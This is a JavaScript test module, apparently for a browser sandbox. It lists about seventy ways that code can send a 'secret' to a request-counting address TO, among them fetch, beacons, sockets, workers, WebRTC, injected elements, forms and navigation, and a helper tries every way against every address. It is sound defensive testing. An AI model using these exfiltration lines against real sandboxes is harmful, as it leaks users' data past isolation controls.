/**
 * Every known way out of the sandbox. To add a way: a line, with TO for the address of a server that counts requests
 * (another server, or the page's own), and UDP for its port.
 */

/** Statements; an exception counts as blocked. */
export const ways = {
  fetch: 'await fetch(TO + "/secret")',
  'fetch, no-cors': 'await fetch(TO + "/secret", { mode: "no-cors", method: "POST", body: "secret" })',
  'fetch, keepalive': 'await fetch(TO + "/secret", { keepalive: true, mode: "no-cors" })',
  'a request with a relative address': 'await fetch("/secret")',
  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", TO + "/secret", false); x.send()',
  WebSocket: 'new WebSocket(TO.replace("http", "ws") + "/secret")',
  WebSocketStream: 'await new WebSocketStream(TO.replace("http", "ws") + "/secret").opened',
  EventSource: 'new EventSource(TO + "/secret")',
  sendBeacon: 'navigator.sendBeacon(TO + "/secret", "secret")',
  'import()': 'await (0, eval)("import(\'" + TO + "/secret.js\')")',
  importScripts: 'importScripts(TO + "/secret.js")',
  'import of data that imports': 'await (0, eval)("import(\'data:text/javascript,import \\"" + TO + "/secret\\"\')")',
  Worker: 'new Worker(TO + "/secret.js")',
  'Worker, module': 'new Worker(TO + "/secret.js", { type: "module" })',
  SharedWorker: 'new SharedWorker(TO + "/secret.js")',
  'a worker of a blob': `const inner = "fetch('" + TO + "/secret'); importScripts('" + TO + "/secret')";
    new Worker(URL.createObjectURL(new Blob([inner])))`,
  'a worker of data': `new Worker("data:text/javascript,fetch('" + TO + "/secret')")`,
  ServiceWorker: 'await navigator.serviceWorker.register(TO + "/secret.js")',
  WebTransport: 'await new WebTransport(TO.replace("http:", "https:") + "/secret").ready',
  WebRTC: `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + UDP }] });
    peer.createDataChannel("secret"); await peer.setLocalDescription(await peer.createOffer())`,
  'CacheStorage.add': 'await (await caches.open("x")).add(TO + "/secret")',
  'background fetch': 'await (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", TO + "/secret")',
  'a font': 'await new FontFace("x", "url(" + TO + "/secret.woff2)").load()',
  'WebAssembly.compileStreaming': 'await WebAssembly.compileStreaming(fetch(TO + "/secret.wasm"))',
  'a picture':
    'await new Promise((done) => Object.assign(new Image(), { src: TO + "/secret.png", onload: done, onerror: done }))',
  'createImageBitmap of a picture': 'createImageBitmap(Object.assign(new Image(), { src: TO + "/secret" }))',
  'location of the worker': 'self.location = TO + "/secret"',
  'location of the top': 'top.location = TO + "/secret"',
  'location of the parent': 'parent.location.href = TO + "/secret"',
  'location of the opener': 'opener.location = TO + "/secret"',
  'window.open': 'open(TO + "/secret")',
  localStorage: 'localStorage.setItem("secret", "1")',
  indexedDB: 'indexedDB.open("secret"); throw new Error("of the sandbox alone")',
  cookies: 'document.cookie = "secret=1"',
  cookieStore: 'await cookieStore.set("secret", "1")',
  BroadcastChannel: 'new BroadcastChannel("secret").postMessage("secret")',
  clipboard: 'await navigator.clipboard.writeText("secret")',
  notification: 'await new Notification("secret", { icon: TO + "/secret" })',
  reports: 'new ReportingObserver(() => {}).observe(); await fetch(TO + "/secret", { headers: { "Report-To": TO } })',
  ...Object.fromEntries(
    Object.entries({
      script: '{ src: TO + "/secret.js" }',
      'script, module': '{ type: "module", src: TO + "/secret.js" }',
      link: '{ rel: "stylesheet", href: TO + "/secret.css" }',
      'link, prefetch': '{ rel: "prefetch", href: TO + "/secret" }',
      'link, preload': '{ rel: "preload", as: "script", href: TO + "/secret" }',
      'link, modulepreload': '{ rel: "modulepreload", href: TO + "/secret" }',
      'link, preconnect': '{ rel: "preconnect", href: TO }',
      'link, dns-prefetch': '{ rel: "dns-prefetch", href: "//secret.invalid" }',
      'link, icon': '{ rel: "icon", href: TO + "/secret.ico" }',
      'link, manifest': '{ rel: "manifest", href: TO + "/secret.json" }',
      img: '{ src: TO + "/secret" }',
      'img, srcset': '{ srcset: TO + "/secret 2x" }',
      iframe: '{ src: TO + "/secret" }',
      'iframe, srcdoc': `{ srcdoc: "<img src='" + TO + "/secret'><meta http-equiv=refresh content='0;url=" + TO + "/secret'>" }`,
      object: '{ data: TO + "/secret" }',
      embed: '{ src: TO + "/secret" }',
      audio: '{ src: TO + "/secret", preload: "auto" }',
      video: '{ src: TO + "/secret", poster: TO + "/secret" }',
      track: '{ src: TO + "/secret" }',
      style: '{ textContent: "@import url(" + TO + "/secret); body { background: url(" + TO + "/secret) }" }',
      'body of a style': '{ style: "background: url(" + TO + "/secret)" }',
      base: '{ href: TO }',
    }).map(([name, properties]) => [
      `<${name}>`,
      `document.body.append(Object.assign(document.createElement("${name.split(',')[0].split(' ').at(-1)}"), ${properties}))`,
    ]),
  ),
  'an SVG with a picture in it': `document.body.append(document.createRange().createContextualFragment(
    "<svg><image href='" + TO + "/secret'/><use href='" + TO + "/secret#x'/></svg>"))`,
  'a form': `const form = Object.assign(document.createElement("form"), { action: TO + "/secret", method: "post" });
    document.body.append(form); form.submit()`,
  'a link that pings': `const a = Object.assign(document.createElement("a"), { href: "#x", ping: TO + "/secret" });
    document.body.append(a); a.click()`,
  'a download': `const a = Object.assign(document.createElement("a"), { href: TO + "/secret", download: "x" });
    document.body.append(a); a.click()`,
  'a speculation rule': `document.body.append(Object.assign(document.createElement("script"), { type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ urls: [TO + "/secret"] }] }) }))`,
};

/** Policies do not cover these. Workers have none of them, and cells only have a worker. */
export const beyondPolicies = ['WebRTC', '<link, preconnect>', '<link, dns-prefetch>'];

/** Ways of the frame that cells lack: a cell runs in a worker, without a document. */
export const ofDocuments = {
  'to leave for another place': 'location = TO + "/secret"',
  'a meta refresh': `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + TO + "/secret" }))`,
};

export const attempt = (code, to, udp) => `const TO = ${JSON.stringify(to)}, UDP = ${udp};\n${code}`;

/** Cells that try them all at each of the addresses, and end. */
export const attempts = (addresses, udp) =>
  Object.values(ways).flatMap((code) =>
    addresses.map(
      (to) => `await Promise.race([(async () => {
${attempt(code, to, udp)}
})(), new Promise((done) => setTimeout(done, 2000))]);`,
    ),
  );
